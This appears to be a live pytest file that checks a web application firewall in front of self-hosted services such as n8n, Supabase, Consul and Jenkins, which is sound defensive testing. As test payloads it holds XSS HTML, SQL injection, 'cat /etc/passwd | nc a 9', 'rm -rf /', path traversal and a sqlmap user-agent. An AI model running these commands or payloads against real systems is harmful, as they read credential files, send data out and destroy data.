"""What each service is ordinarily asked goes through its route's firewall; what its exclusions do not mean does not.

The real front door and firewall with the rules and exclusions of every route of the catalogue, before one small server
that says it was reached. That the services work behind it is for their own live tests, which go the same way.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from ops import frontdoor
from stack.derive import waf
from stack.proofs.context import as_written
from stack.proofs.waf import ATTACKS, PROMPTS
from tests.live import doors
from tests.live.kitclone import free_ports
from tests.live.standing import Standing

pytestmark = pytest.mark.live

DOMAIN = "kit.localhost"


@dataclass(frozen=True)
class Ask:
    """A request: to a route's path, with a body as JSON or as it is."""

    route: str
    path: str
    method: str = "GET"
    json: Any = None
    data: str | bytes = b""
    kind: str = ""
    headers: dict[str, str] = field(default_factory=dict[str, str])

    def __str__(self) -> str:
        return f"{self.method} {self.route}{self.path.partition('?')[0]} {self.kind}"


@pytest.fixture(scope="module")
def up(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Standing]:
    http, https, admin = free_ports(3)
    with doors.doors(
        "wafroutes",
        tmp_path_factory.mktemp("wafroutes"),
        doors.everywhere("plain"),
        firewall=True,
        trusted_proxies=doors.MACHINE,
        http_port=http,
        https_port=https,
        admin_port=admin,
    ) as running:
        running.settle()
        yield running


@pytest.fixture
def visitor(up: Standing) -> Iterator[httpx.Client]:
    with frontdoor.browser(DOMAIN, "127.0.0.1", up.outputs.ca_pem) as client:
        yield client


CLIENTS = iter(range(60_000))


def send(up: Standing, visitor: httpx.Client, ask: Ask) -> httpx.Response:
    number = next(CLIENTS)
    headers = {"X-Forwarded-For": f"198.18.{number // 250}.{number % 250 + 1}", **ask.headers}
    content = ask.data
    if ask.json is not None:
        content, headers["content-type"] = json.dumps(ask.json), "application/json"
    if ask.kind:
        headers["content-type"] = ask.kind
    return as_written(visitor, up.outputs.urls[ask.route], ask.path, ask.method, content=content, headers=headers)


def reached(answer: httpx.Response) -> bool:
    return "x-reached" in answer.headers


def refused(answer: httpx.Response) -> bool:
    return answer.status_code == 403 and answer.headers.get(waf.REFUSED) == "refused"


# ------------------------------------------------------------------------------------------------------------ webhooks

MAIL = """<!DOCTYPE html><html><head><style>a{color:red}</style>
<script>window.onload=function(){alert(1)}</script></head>
<body onload="f()"><p>Hello O'Neil &amp; sons,</p><a href="javascript:void(0)">../../etc/passwd</a>
<img src=x onerror=alert(1)></body></html>"""
CODE = "SELECT * FROM users WHERE name = '' OR '1'='1' UNION SELECT password FROM admins;-- ; cat /etc/passwd | nc a 9"
TEXTS = (MAIL, CODE, *PROMPTS, *ATTACKS.values())
CALENDAR = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:<b>it's</b> ; rm -rf /\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
FORM = "application/x-www-form-urlencoded"
HOOKS = ("/webhook/0a1b-mail", "/webhook/a/b/c", "/webhook-waiting/42", "/form/feedback", "/form-waiting/7")
PLAIN_QUERY = "?from=aB3-_.9&event=order.created&at=2026-11-22"


def bodies(path: str) -> Iterator[Ask]:
    """Whatever others send to a webhook, in every way to send it."""
    for text in TEXTS:
        yield Ask(
            "n8n", path, "POST", json={"subject": "Re: it's", "html": text, "parts": [{"text": text}], text[:40]: 1}
        )
        yield Ask("n8n", path, "POST", data=str(httpx.QueryParams({"html": text, "from": "a@b.org"})), kind=FORM)
        yield Ask("n8n", path, "PUT", data=text, kind="text/plain")
        yield Ask("n8n", path, "POST", data=text, kind="text/html")
        yield Ask("n8n", path, "POST", data=f"<a><![CDATA[{text}]]></a>", kind="application/xml")
        part = f'--xx\r\nContent-Disposition: form-data; name="html"\r\n\r\n{text}\r\n--xx--\r\n'
        yield Ask("n8n", path, "POST", data=part, kind="multipart/form-data; boundary=xx")
    yield Ask("n8n", path, "POST", data=CALENDAR, kind="text/calendar; charset=utf-8")
    yield Ask("n8n", path, "POST", data=bytes(range(256)) * 50, kind="audio/ogg")
    yield Ask("n8n", path, "POST", data=MAIL)


def test_a_webhook_may_be_sent_anything(up: Standing, visitor: httpx.Client) -> None:
    wrong = [
        f"{ask}: {answer.status_code}"
        for ask in (*bodies(HOOKS[0]), *bodies(f"{HOOKS[1]}{PLAIN_QUERY}"))
        if not reached(answer := send(up, visitor, ask))
    ]
    for path in HOOKS[2:]:
        for ask in (Ask("n8n", path, "POST", json={"html": MAIL, "sql": CODE}), Ask("n8n", f"{path}{PLAIN_QUERY}")):
            if not reached(answer := send(up, visitor, ask)):
                wrong.append(f"{ask}: {answer.status_code}")
    assert not wrong


def test_a_large_mail_gets_to_a_webhook_and_to_nobody_else(up: Standing, visitor: httpx.Client) -> None:
    large = {"html": MAIL * 5000}
    assert reached(send(up, visitor, Ask("n8n", HOOKS[0], "POST", json=large)))
    assert send(up, visitor, Ask("plain", "/x", "POST", json=large)).status_code == 413


def test_the_same_in_its_query_is_refused(up: Standing, visitor: httpx.Client) -> None:
    for name, text in ATTACKS.items():
        query = str(httpx.QueryParams({"q": text}))
        for path in HOOKS:
            assert refused(send(up, visitor, Ask("n8n", f"{path}?{query}"))), (name, path)
            hidden = Ask("n8n", f"{path}?a=1&{query}", "POST", json={"fine": "body"})
            assert refused(send(up, visitor, hidden)), (name, path)


def test_the_same_anywhere_else_is_refused(up: Standing, visitor: httpx.Client) -> None:
    """In the path, a cookie, a file's name; and the body, at every other address of that route."""
    for name, text in ATTACKS.items():
        cookie = {"cookie": f"a={text}"} if ";" not in text else {"cookie": "a=<script>alert(1)</script>"}
        assert refused(send(up, visitor, Ask("n8n", HOOKS[0], "POST", json={}, headers=cookie))), name
        for path in ("/webhookx/a", "/x", "/webhook", "/webhook/%2e%2e/x", "/webhook//x", "/webhook/../x"):
            answer = send(up, visitor, Ask("n8n", path, "POST", json={"q": text}))
            assert refused(answer) or answer.status_code in (400, 403), (name, path)
    scanner = {"user-agent": "sqlmap/1.8#stable (https://sqlmap.org)"}
    assert refused(send(up, visitor, Ask("n8n", HOOKS[0], "POST", json={}, headers=scanner)))


# -------------------------------------------------------------------------------------------- what is ordinarily asked

UUID = "7c9e6679-7425-40de-944b-e07fc1f90ae7"
TOKEN = {"authorization": "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpZCI6IjEifQ.c2lnbmF0dXJl"}
BACK = "state=kAZvQ2-4bH0.nBzZ0sZ4cXg.Ym9vaw&session_state=" + UUID + "&code=" + ".".join([UUID] * 3)
ISS = "&iss=https%3A%2F%2Fauth.kit.localhost%3A8443%2Frealms%2Fkit"
ORDINARY: tuple[Ask, ...] = (
    # the chat
    Ask("chat", "/"),
    Ask("chat", f"/oauth/oidc/callback?{BACK}{ISS}"),
    Ask("chat", "/api/v1/chats/?page=1", headers=TOKEN),
    Ask("chat", "/api/v1/chats/search?text=select%20*%20from%20a%20where%20b='c'%20or%201=1--", headers=TOKEN),
    Ask("chat", "/api/v1/users/user/settings/update", "POST", json={"ui": {"system": CODE, "models": ["a:1b"]}}),
    Ask(
        "chat",
        "/api/v1/tools/create",
        "POST",
        json={"id": "x", "content": "import os\nos.system('id; cat /etc/passwd')"},
    ),
    Ask("chat", "/api/v1/auths/signin", "POST", json={"email": "a@b.org", "password": CODE}),
    Ask("chat", "/ws/socket.io/?EIO=4&transport=polling&t=Oa1b2c3", headers=TOKEN),
    # the API
    Ask("api", "/v1/models", headers={"authorization": "Bearer sk-0123456789"}),
    Ask("api", "/v1/chat/completions", "POST", json={"model": "a", "messages": [{"role": "user", "content": CODE}]}),
    Ask("api", "/v1/embeddings", "POST", json={"model": "a", "input": [MAIL, CODE]}),
    Ask("api", "/openapi.json"),
    Ask("api", "/swagger/swagger-ui-bundle.js"),
    Ask("api", f"/me/callback?{BACK}{ISS}"),
    Ask("api", "/me/keys", "POST", data="name=it's+mine", kind=FORM),
    # flows
    Ask("flowise", f"/api/v1/prediction/{UUID}", "POST", json={"question": CODE, "overrideConfig": {"sessionId": "a"}}),
    Ask(
        "flowise", "/api/v1/chatflows", "POST", json={"name": "a", "flowData": json.dumps({"nodes": [{"code": CODE}]})}
    ),
    Ask("flowise", "/api/v1/chatflows?type=CHATFLOW&page=1&limit=12"),
    # rows
    Ask("supabase", "/rest/v1/todos?select=*&name=eq.x"),
    Ask("supabase", "/rest/v1/todos?select=id,owner:people(name)&or=(id.gt.1,title.ilike.*O'Neil*)&order=id"),
    Ask("supabase", "/rest/v1/todos?name=eq.Robert');%20DROP%20TABLE%20students;--&limit=10"),
    Ask("supabase", "/rest/v1/todos?id=in.(1,2,3)&data->>kind=eq.a", "PATCH", json={"title": CODE, "html": MAIL}),
    Ask("supabase", "/rest/v1/todos", "POST", json=[{"title": text} for text in TEXTS]),
    Ask("supabase", "/rest/v1/rpc/find", "POST", json={"query": CODE}),
    Ask(
        "supabase",
        "/auth/v1/signup",
        "POST",
        json={"email": "zoe+kit@b.org", "password": CODE, "data": {"name": "Zoë"}},
    ),
    Ask("supabase", "/auth/v1/token?grant_type=password", "POST", json={"email": "a@b.org", "password": CODE}),
    Ask("supabase", "/auth/v1/token?grant_type=refresh_token", "POST", json={"refresh_token": "a" * 12}),
    Ask("supabase", "/auth/v1/authorize?provider=keycloak&redirect_to=https%3A%2F%2Fapp.example.org%2Fback"),
    Ask("studio", "/api/platform/pg-meta/default/query", "POST", json={"query": CODE}),
    # keys and services
    Ask("consul", "/ui/"),
    Ask(
        "consul", "/v1/kv/app/config?cas=0&dc=dc1", "PUT", data="#!/bin/sh\nrm -rf /; cat /etc/passwd | nc a 9\n" + MAIL
    ),
    Ask("consul", "/v1/kv/app/?keys&separator=/"),
    Ask("consul", "/v1/health/service/web?passing=1&filter=Service.Tags%20contains%20%22a%22"),
    Ask("consul", "/v1/internal/ui/services?dc=dc1&index=42&wait=60s"),
    Ask(
        "consul", "/v1/acl/token", "PUT", json={"Description": "it's mine", "Policies": [{"Name": "a"}], "Local": False}
    ),
    # jobs
    Ask(
        "jenkins",
        "/jenkins/job/a/config.xml",
        "POST",
        data=f"<project><command><![CDATA[{CODE}]]></command></project>",
        kind="application/xml",
    ),
    Ask("jenkins", "/jenkins/job/a/buildWithParameters?BRANCH=origin/main", "POST", data="", kind=FORM),
    Ask("jenkins", f"/jenkins/securityRealm/finishLogin?{BACK}{ISS}"),
    # logins
    Ask(
        "auth",
        f"/realms/kit/protocol/openid-connect/auth?client_id=open-webui&response_type=code&scope=openid+email+profile"
        f"&redirect_uri=https%3A%2F%2Fchat.kit.localhost%3A8443%2Foauth%2Foidc%2Fcallback&state=a.b&nonce={UUID}"
        "&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM&code_challenge_method=S256",
    ),
    Ask(
        "auth",
        f"/realms/kit/login-actions/authenticate?session_code={UUID}&execution={UUID}&client_id=n8n&tab_id=aB3_-x",
        "POST",
        data=str(httpx.QueryParams({"username": "zoë.o'neil", "password": CODE, "credentialId": ""})),
        kind=FORM,
    ),
    Ask(
        "auth",
        "/realms/kit/protocol/openid-connect/token",
        "POST",
        data=str(
            httpx.QueryParams(
                {
                    "grant_type": "authorization_code",
                    "code": UUID,
                    "redirect_uri": "https://n8n.kit.localhost:8443/oauth2/callback",
                    "client_secret": CODE,
                    "code_verifier": "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk",
                }
            )
        ),
        kind=FORM,
    ),
    Ask(
        "auth", "/realms/kit/account/?userProfileMetadata=true", "POST", json={"firstName": "Zoë", "lastName": "O'Neil"}
    ),
    Ask("login", f"/oauth2/callback?{BACK}{ISS}"),
    Ask("login", "/oauth2/start?rd=https%3A%2F%2Fn8n.kit.localhost%3A8443%2Fworkflow%2Fnew%3Fa%3Db"),
    # workflows
    Ask(
        "n8n",
        "/rest/workflows",
        "POST",
        json={"name": "it's", "nodes": [{"parameters": {"jsCode": CODE, "html": MAIL}}]},
    ),
    Ask("n8n", '/rest/executions?filter={"workflowId":"a","status":["error"]}&limit=10'),
    Ask("n8n", "/assets/index-BT8k_a-1.js"),
    Ask("n8n", f"/rest/oauth2-credential/callback?{BACK}&scope=https://www.googleapis.com/auth/gmail.readonly"),
)


@pytest.mark.parametrize("ask", ORDINARY, ids=str)
def test_what_is_ordinarily_asked_arrives(up: Standing, visitor: httpx.Client, ask: Ask) -> None:
    answer = send(up, visitor, ask)
    assert reached(answer), f"{answer.status_code} {answer.text[:200]}"


def test_every_route_that_answers_to_more_than_a_login_was_asked(up: Standing) -> None:
    assert {owned.item.name for owned in up.plan.routes} - {"plain"} == {ask.route for ask in ORDINARY}
